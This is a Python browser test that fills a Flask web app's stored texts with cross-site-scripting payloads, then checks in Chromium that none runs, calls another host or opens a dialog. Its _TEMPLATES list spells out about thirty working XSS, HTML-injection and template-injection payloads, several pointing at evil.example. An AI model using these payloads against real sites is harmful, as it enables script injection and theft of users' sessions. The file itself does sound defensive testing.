"""Hostile texts on every screen of a real Chromium with scripts on: shown, and that is all.

What would run is told of by a dialog, by the page's policy, by a request to somewhere else or by
an element that nobody's template wrote. One browser opens the pages one after the other.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa
from flask import Flask
from playwright.sync_api import Browser, Dialog, Page, Route
from sqlalchemy.orm import Session

from internkontroll.core.access import Role
from internkontroll.core.database import intent_to_write
from tests.browser.conftest import served
from tests.browser.test_every_page import PAGES, cookie_of
from tests.databases import Databases
from tests.hostile_texts import HOSTILE_TEXTS
from tests.poisoned import poison
from tests.web.test_forged_forms import fresh_site
from tests.web.test_route_matrix import address_in, client_of

EVIL = "https://evil.example"
CLASS = "frammande"
"""The class of every element that a payload would make."""
_MADE = f'class="{CLASS}"'
_TEMPLATES = (
    f"<script {_MADE}>window.ran.push({{n}})</script>",
    f"<img {_MADE} src=x onerror=window.ran.push({{n}})>",
    f"<img {_MADE} src={EVIL}/{{n}}.png>",
    f"<svg {_MADE} onload=window.ran.push({{n}})></svg>",
    f'"><script {_MADE}>window.ran.push({{n}})</script>',
    f"'><img {_MADE} src=x onerror=alert({{n}})>",
    f"</textarea><img {_MADE} src=x onerror=alert({{n}})>",
    f"</title><script {_MADE} src={EVIL}/{{n}}.js></script>",
    f"</script><script {_MADE}>alert({{n}})</script>",
    f"</style><style {_MADE}>@import '{EVIL}/{{n}}.css';</style>",
    f"<iframe {_MADE} src={EVIL}/{{n}}></iframe>",
    f"<iframe {_MADE} srcdoc='<script>parent.ran.push({{n}})</script>'></iframe>",
    f"<object {_MADE} data={EVIL}/{{n}}></object>",
    f"<link {_MADE} rel=stylesheet href={EVIL}/{{n}}.css>",
    f"<base {_MADE} href={EVIL}/{{n}}/>",
    f"<meta {_MADE} http-equiv=refresh content='0;url={EVIL}/{{n}}'>",
    f"<form {_MADE} action={EVIL}/{{n}}><button autofocus>Spara</button></form>",
    f"<a {_MADE} href='javascript:window.ran.push({{n}})'>Läs mer</a>",
    f"<details {_MADE} open ontoggle=window.ran.push({{n}})>text</details>",
    f"<video {_MADE}><source onerror=window.ran.push({{n}})></video>",
    f"<math {_MADE}><mtext></mtext><mglyph><style><img src=x onerror=alert({{n}})></style></math>",
    f"<noscript><p title='</noscript><img {_MADE} src=x onerror=alert({{n}})>'></noscript>",
    '" autofocus onfocus=window.ran.push({n}) x="',
    "' onmouseover=window.ran.push({n}) style='position:fixed;inset:0",
    "javascript:window.ran.push({n})",
    "[läs mer](javascript:window.ran.push({n}))",
    f"[läs mer]({EVIL}/{{n}})",
    f"![bild]({EVIL}/{{n}}.png)",
    "{{{{ range.constructor('window.ran.push({n})')() }}}}",
    f"<!--><script {_MADE}>window.ran.push({{n}})</script>-->",
)
SCRIPTS = [template.format(n=n) for n in range(7) for template in _TEMPLATES]
TEXTS = [*SCRIPTS, *HOSTILE_TEXTS]

WATCH = """
window.ran = [];
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
  window[name] = () => { window.ran.push(name); return null; };
}
document.addEventListener('securitypolicyviolation', (event) =>
  window.ran.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
"""Set up before the page's own first line."""

TOUCH = """
([cls, evil]) => {
  document.querySelectorAll('details').forEach((one) => { one.open = true; });
  document.querySelectorAll('input, textarea').forEach((one) => {
    one.focus();
    one.dispatchEvent(new Event('input', { bubbles: true }));
  });
  document.querySelectorAll('a, td, h1, p').forEach((one) =>
    one.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })));
  const wrong = [...window.ran];
  const tell = (one) => wrong.push(one.outerHTML.slice(0, 200));
  document.querySelectorAll(
    `.${cls}, iframe, object, embed, base, meta[http-equiv], style`).forEach(tell);
  for (const one of document.querySelectorAll('*')) {
    for (const { name, value } of one.attributes) {
      const leads = ['href', 'src', 'action', 'formaction'].includes(name);
      if (name.startsWith('on') || (leads && /^\\s*javascript:/i.test(value))) tell(one);
      // A link that a person wrote may lead out; nothing else may, and no link by itself.
      if (leads && value.startsWith(evil) && one.tagName !== 'A') tell(one);
    }
  }
  const typed = [...document.querySelectorAll('input, textarea')].map((one) => one.value);
  return { wrong, text: [document.body.innerText, ...typed].join('\\n') };
}
"""
"""Look at all, let the scripts do theirs; what is wrong, and what the person reads."""


@dataclass
class Watched:
    """A page that tells of dialogs and of what it asks other hosts for."""

    page: Page
    wrong: list[str] = field(default_factory=list)

    def dialog(self, dialog: Dialog) -> None:
        self.wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def asked(self, route: Route) -> None:
        host = urlsplit(route.request.url).hostname
        if host not in {"127.0.0.1", None}:
            self.wrong.append(f"asked for {route.request.url}")
            route.abort()
        elif route.request.resource_type in {"font", "stylesheet"}:
            route.abort()  # how it looks is seen elsewhere
        else:
            route.fallback()


@pytest.fixture(scope="module")
def poisoned_site(
    databases: Databases, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Flask, str]]:
    """The demonstration served, with a hostile text in every text."""
    with fresh_site(databases, tmp_path_factory.mktemp("hostile")) as app:
        app.config["TESTING"] = False
        engine = sa.create_engine(app.config["SQLALCHEMY_DATABASE_URI"], poolclass=sa.NullPool)
        with intent_to_write(), Session(engine) as session:
            assert poison(session, TEXTS) >= 20
            session.commit()
        engine.dispose()
        with served(app) as base:
            yield app, base


def hostile_pages(app: Flask) -> Iterator[tuple[Role | None, str, str]]:
    """The pages that hold some of a hostile text, each with somebody who opens it."""
    clients: dict[Role | None, Any] = {}
    for endpoint, (role, _) in sorted(PAGES.items()):
        client = clients.setdefault(role, client_of(app, role))
        committee = "IU1" if role in {Role.MEMBER, Role.CHAIR} else None
        path = address_in(app, endpoint, committee)
        with client.get(path) as answer:
            body = answer.get_data(as_text=True)
        if answer.status_code == 200 and any(mark in body for mark in ("window.ran", CLASS, EVIL)):
            yield role, endpoint, path


def watched_page(browser: Browser, base: str) -> Watched:
    context = browser.new_context(base_url=base, locale="sv-SE")
    context.add_init_script(WATCH)
    watched = Watched(context.new_page())
    watched.page.on("dialog", watched.dialog)
    context.route("**/*", watched.asked)
    return watched


def test_the_watch_sees_what_it_is_to_see(
    browser: Browser, poisoned_site: tuple[Flask, str]
) -> None:
    _, base = poisoned_site
    watched = watched_page(browser, base)
    page = watched.page
    page.goto("/logga-in")
    page.evaluate(
        "html => { document.querySelector('main').innerHTML = html; }",
        f'<p onmouseover="ran.push(1)">a</p><iframe class={CLASS}></iframe><img src={EVIL}/1.png>',
    )
    page.wait_for_function("window.ran.some((one) => String(one).startsWith('img-src'))")
    page.evaluate("alert('hej')")
    told = " ".join(page.evaluate(TOUCH, [CLASS, EVIL])["wrong"])
    page.context.close()

    for sign in (
        "img-src",
        "script-src-attr",
        f'<iframe class="{CLASS}',
        "<p onmouseover",
        "alert",
    ):
        assert sign in told


def test_no_hostile_text_is_more_than_text_in_a_browser(
    browser: Browser, poisoned_site: tuple[Flask, str]
) -> None:
    app, base = poisoned_site
    watched, shown, opened = watched_page(browser, base), set(), 0
    for role, endpoint, path in hostile_pages(app):
        watched.page.context.clear_cookies()
        if role is not None:
            value = cookie_of(app, role)
            watched.page.context.add_cookies([{"name": "session", "value": value, "url": base}])
        watched.page.goto(path)
        told = watched.page.evaluate(TOUCH, [CLASS, EVIL])
        watched.wrong += [f"{endpoint}: {one}" for one in told["wrong"]]
        shown |= {text for text in SCRIPTS if text in told["text"]}
        opened += 1
    watched.page.context.close()

    assert not watched.wrong, "\n".join(watched.wrong[:20])
    assert opened > 100
    assert len(shown) > 100
    assert {SCRIPTS.index(text) % len(_TEMPLATES) for text in shown} == set(range(len(_TEMPLATES)))
